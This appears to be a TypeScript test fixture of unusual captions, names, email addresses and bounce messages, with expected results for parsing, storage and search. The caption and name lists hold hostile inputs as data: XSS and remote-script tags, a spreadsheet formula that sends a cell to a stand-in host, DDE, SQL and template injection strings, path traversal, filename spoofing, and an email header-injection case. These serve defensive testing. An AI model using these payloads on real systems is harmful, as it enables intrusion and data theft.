/**
 * Strange but real input, with the result that a program should make from it: one list for the sandbox's fault
 * `hostile-texts` and for all tests at the product's entry points. Add what users report here.
 */

export interface StrangeCaption {
  text: string;
  /** Stored text, if it differs: no database stores NUL or half of a pair. */
  stored?: string;
  hashtags?: readonly string[];
  mentions?: readonly string[];
  /** Searches that find it. */
  queries?: readonly string[];
}

export const strangeCaptions: readonly StrangeCaption[] = [
  // Markup, formulas and commands.
  {
    text: `<img src=x onerror="alert(1)"><svg/onload=alert(2)>{{7*7}}</script><script src=//canary.test/a.js></script>`,
    queries: ['</script>'],
  },
  { text: `=HYPERLINK("https://canary.test/?"&A1,"win")`, queries: ['=hyperlink('] },
  { text: '+cmd|" /C calc"!A0' },
  { text: '@SUM(1+1)*cmd', mentions: ['@SUM'] },
  { text: '-2+3\tand a tab', queries: ['-2+3'] },
  { text: '＝1+1 in full width', queries: ['=1+1 in', '＝1+1'] },
  { text: `"quoted", 'single', two\nlines\r\nand \`three\``, queries: [`'single'`] },
  {
    text: `%s %n \${7*7} {{constructor.constructor('alert(3)')()}} ../../etc/passwd 100% C:\\new_file'; DROP TABLE media`,
    queries: ['100%', 'c:\\new_', `'; drop table`],
  },
  // Characters that are not seen, or change others.
  { text: 'safe \u202Egpj.exe\u202C and \u2066isolated\u2069', queries: ['\u202Egpj'] },
  { text: 'in\u200Bvis\u200Di\uFEFFble' },
  {
    text: 'a NUL \0, and half of a pair \ud83d',
    stored: 'a NUL , and half of a pair \ufffd',
    queries: ['a nul , and', '\ufffd'],
  },
  { text: 'bell \u0007, escape \u001b[31m and delete \u007f', queries: ['[31m'] },
  { text: 'Dots as blank lines\n.\n.\nand Braille\n\u2800\n\u2800\nbelow', queries: ['braille'] },
  // Letters and scripts.
  {
    text: 'Cafe\u0301 decomposed #cafe\u0301',
    hashtags: ['#caf\u00e9'],
    queries: ['caf\u00e9', 'CAFE\u0301', '#caf\u00e9'],
  },
  {
    text: 'Caf\u00e9 composed #CAF\u00c9',
    hashtags: ['#CAF\u00c9'],
    queries: ['caf\u00e9 composed', 'cafe\u0301 composed'],
  },
  { text: '𝓗𝓮𝓵𝓵𝓸 𝗯𝗼𝗹𝗱 Ｗｉｄｅ', queries: ['hello', 'bold wide', '𝓗𝓮𝓵𝓵𝓸'] },
  { text: 'أهلا بكم #قهوة_عربية و#شاي', hashtags: ['#قهوة_عربية'], queries: ['بكم'] },
  { text: 'می\u200cخواهم #می\u200cخواهم', hashtags: ['#می\u200cخواهم'], queries: ['خواهم'] },
  { text: 'नमस्ते #हिन्दी#தமிழ்', hashtags: ['#हिन्दी', '#தமிழ்'], queries: ['नमस्ते'] },
  { text: 'CafÃ© aus einem alten Export â€“ mojibake', queries: ['cafã©'] },
  {
    text: '👩‍👩‍👧‍👦🏳️‍🌈🫶🏽 Z̸̡̧̛͚̱̭̺͖͇̈́̐a̷͗lgo ❤️#love 🎉@anna.b',
    hashtags: ['#love'],
    mentions: ['@anna.b'],
    queries: ['🏳️‍🌈'],
  },
  // Hashtags and mentions.
  {
    text: 'No spaces #alpha1#beta2#東京#カフェ',
    hashtags: ['#alpha1', '#beta2', '#東京', '#カフェ'],
    queries: ['#beta2#東'],
  },
  {
    text: '##double ＃全角＃記号 #2026 #2026#goals #100days #_a_ #️⃣ #1️⃣ &#39;x mail a#b #Kaffe #kaffe',
    hashtags: ['#double', '#全角', '#記号', '#goals', '#100days', '#_a_', '#Kaffe'],
  },
  {
    text: 'With @anna.b_1@Bo@bo. And @ANNA.B_1, mail x@example.com',
    mentions: ['@anna.b_1', '@Bo'],
  },
  { text: 'x'.repeat(2_200), queries: ['x'.repeat(200)] },
];

/** People's and accounts' names, with their length as people count it. */
export const strangeNames: readonly { text: string; length: number }[] = [
  { text: `<b onmouseover="alert(4)">=1+1</b>\u202Egpj.\u202C`, length: 40 },
  { text: '👨‍👩‍👧‍👦 Familie Müller', length: 16 },
  { text: 'Ame\u0301lie Zoe\u0308', length: 10 },
  { text: 'やまだ　太郎', length: 6 },
  { text: 'محمد بن سلمان', length: 13 },
  { text: 'स्वाति', length: 2 },
  { text: '🇩🇪🇫🇷', length: 2 },
  { text: `O'Brien & Söhne "GmbH"`, length: 22 },
];

export const strangeAddresses = {
  /** Each with its canonical form for comparing and sending. */
  accepted: [
    ['anna@example.com', 'anna@example.com'],
    ['Anna.B@EXAMPLE.com', 'Anna.B@example.com'],
    ['user+tag@example.com', 'user+tag@example.com'],
    [`o'brien@example.com`, `o'brien@example.com`],
    ['user@bücher.example', 'user@xn--bcher-kva.example'],
    ['user@BÜCHER.example', 'user@xn--bcher-kva.example'],
    ['user@bu\u0308cher.example', 'user@xn--bcher-kva.example'],
    ['user@xn--bcher-kva.example', 'user@xn--bcher-kva.example'],
    ['dörte@example.com', 'dörte@example.com'],
    ['do\u0308rte@bücher.example', 'dörte@xn--bcher-kva.example'],
    ['用户@例え.テスト', '用户@xn--r8jz45g.xn--zckzah'],
    ['a&b@example.com', 'a&b@example.com'],
    ['user=ext@example.com', 'user=ext@example.com'],
    ['first/last@example.com', 'first/last@example.com'],
    [`!#$%*-^_\`{|}~?@example.com`, `!#$%*-^_\`{|}~?@example.com`],
  ],
  refused: [
    '',
    'anna',
    'anna@',
    '@example.com',
    'anna@example',
    'a b@example.com',
    'anna@exam ple.com',
    'anna@example.com, bo@example.com',
    'anna@example.com;bo@example.com',
    'Anna <anna@example.com>',
    '"anna b"@example.com',
    'anna@@example.com',
    'anna@bo@example.com',
    'anna@example.com\r\nBcc: bo@example.com',
    'anna\u0000@example.com',
    'anna\u202e@example.com',
    'anna\u200b@example.com',
    'anna\u00a0b@example.com',
    'anna\ud83d@example.com',
    'a(b)@example.com',
    'anna@[127.0.0.1]',
    'anna@-example.com',
    'anna@example..com',
    '.anna@example.com',
    'anna.@example.com',
    'an..na@example.com',
    `${'a'.repeat(65)}@example.com`,
    `${'ä'.repeat(33)}@example.com`,
    `anna@${'a'.repeat(64)}.com`,
    `anna@${'a.'.repeat(125)}com`,
    'anna@exa_mple.com',
    'anna@example.com/x',
    'anna@example.com?x=1',
    'anna@example.com#x',
    'anna@exam%70le.com',
  ],
} as const satisfies { accepted: readonly (readonly [string, string])[]; refused: readonly string[] };

export interface StrangeBounce {
  name: string;
  message: string;
  /** Null: no failure for good. */
  failure: { problem: string; isAboutAddress: boolean } | null;
}

const toReport = (fields: readonly string[]) =>
  [
    'From: MAILER-DAEMON@mx.example.net (Mail Delivery System)',
    'Subject: Undelivered Mail Returned to Sender',
    'Content-Type: multipart/report; report-type=delivery-status; boundary="x"',
    '',
    '--x',
    'Content-Type: text/plain; charset=utf-8',
    '',
    'This is the mail system at host mx.example.net.',
    '',
    '--x',
    'Content-Type: message/delivery-status',
    '',
    'Reporting-MTA: dns; mx.example.net',
    '',
    'Final-Recipient: rfc822; reader@example.com',
    ...fields,
    '',
    '--x--',
    '',
  ].join('\r\n');

/** Returned mail, in real servers' formats. */
export const strangeBounces: readonly StrangeBounce[] = [
  {
    name: 'a domain that never answered',
    message: toReport([
      'Action: failed',
      'Status: 4.4.7',
      'Diagnostic-Code: smtp; 421 4.4.7 Delivery time expired, the domain\r\n\tdoes not answer',
    ]),
    failure: {
      problem: 'Returned: 421 4.4.7 Delivery time expired, the domain does not answer',
      isAboutAddress: true,
    },
  },
  {
    name: 'an unknown mailbox',
    message: toReport(['Action: failed', 'Status: 5.1.1', 'Diagnostic-Code: smtp; 550 5.1.1 <reader> unknown']),
    failure: { problem: 'Returned: 550 5.1.1 <reader> unknown', isAboutAddress: true },
  },
  {
    name: 'a full mailbox',
    message: toReport(['Action: failed', 'Status: 5.2.2']),
    failure: { problem: 'Returned: 5.2.2', isAboutAddress: true },
  },
  {
    name: 'an address whose owner has changed',
    message: toReport(['Action: failed', 'Status: 5.7.17']),
    failure: { problem: 'Returned: 5.7.17', isAboutAddress: true },
  },
  {
    name: 'a blocklist',
    message: toReport(['Action: failed', 'Status: 5.7.1', 'Diagnostic-Code: smtp; 554 5.7.1 blocked using a list']),
    failure: { problem: 'Returned: 554 5.7.1 blocked using a list', isAboutAddress: false },
  },
  {
    name: 'a policy under a general code',
    message: toReport(['Action: failed', 'Status: 5.0.0', 'Diagnostic-Code: smtp; 550 5.7.26 DMARC rejects it']),
    failure: { problem: 'Returned: 550 5.7.26 DMARC rejects it', isAboutAddress: false },
  },
  {
    name: 'a policy that was tried for days',
    message: toReport(['Action: failed', 'Status: 4.7.1']),
    failure: { problem: 'Returned: 4.7.1', isAboutAddress: false },
  },
  {
    name: 'a size limit',
    message: toReport(['Action: failed', 'Status: 5.3.4']),
    failure: { problem: 'Returned: 5.3.4', isAboutAddress: false },
  },
  {
    name: 'a refused attachment',
    message: toReport(['Action: failed', 'Status: 5.6.1']),
    failure: { problem: 'Returned: 5.6.1', isAboutAddress: false },
  },
  { name: 'a delay', message: toReport(['Action: delayed', 'Status: 4.4.7']), failure: null },
  {
    name: 'Exim without a report',
    message:
      'From: Mail Delivery System <Mailer-Daemon@mx.example.net>\nX-Failed-Recipients: reader@example.com\n' +
      'Subject: Mail delivery failed: returning message to sender\n\nThis message was created automatically by mail ' +
      'delivery software.\n\n  reader@example.com\n    SMTP error from remote mail server after RCPT TO:\n' +
      '    550 5.1.1 no such user\n\n------ This is a copy of the message ------\n\nSubject: 554 5.7.1 of our own\n',
    failure: { problem: 'Returned: 550 5.1.1 no such user', isAboutAddress: true },
  },
  {
    name: 'a warning of Exim about a delay',
    message:
      'From: Mail Delivery System <Mailer-Daemon@mx.example.net>\nSubject: Warning: message delayed 24 hours\n\n' +
      'No action is required on your part. 450 4.2.0 try later\n',
    failure: null,
  },
  {
    name: 'the older form of Gmail',
    message:
      'From: Mail Delivery Subsystem <mailer-daemon@googlemail.com>\r\nX-Failed-Recipients: reader@example.com\r\n\r\n' +
      'Delivery to the following recipient failed permanently:\r\n\r\n     reader@example.com\r\n\r\n' +
      'Technical details of permanent failure:\r\nThe error that the other server returned was:\r\n' +
      '550 550 5.7.1 message content rejected (state 18).\r\n\r\n----- Original message -----\r\n\r\nHello\r\n',
    failure: { problem: 'Returned: 550 550 5.7.1 message content rejected (state 18).', isAboutAddress: false },
  },
  {
    name: 'qmail',
    message:
      'From: MAILER-DAEMON@mx.example.net\nSubject: failure notice\n\nHi. This is the qmail-send program at ' +
      "mx.example.net.\nI'm afraid I wasn't able to deliver your message to the following addresses.\n" +
      "This is a permanent error; I've given up. Sorry it didn't work out.\n\n<reader@example.com>:\n" +
      'Sorry, no mailbox here by that name. (#5.1.1)\n\n--- Below this line is a copy of the message.\n\nHello\n',
    failure: { problem: 'Returned: delivery failed permanently', isAboutAddress: true },
  },
  {
    name: 'an absence note that quotes an error',
    message: 'From: Reader <reader@example.com>\nSubject: Away\n\nAction: failed\nStatus: 5.1.1\n550 5.1.1 no\n',
    failure: null,
  },
];
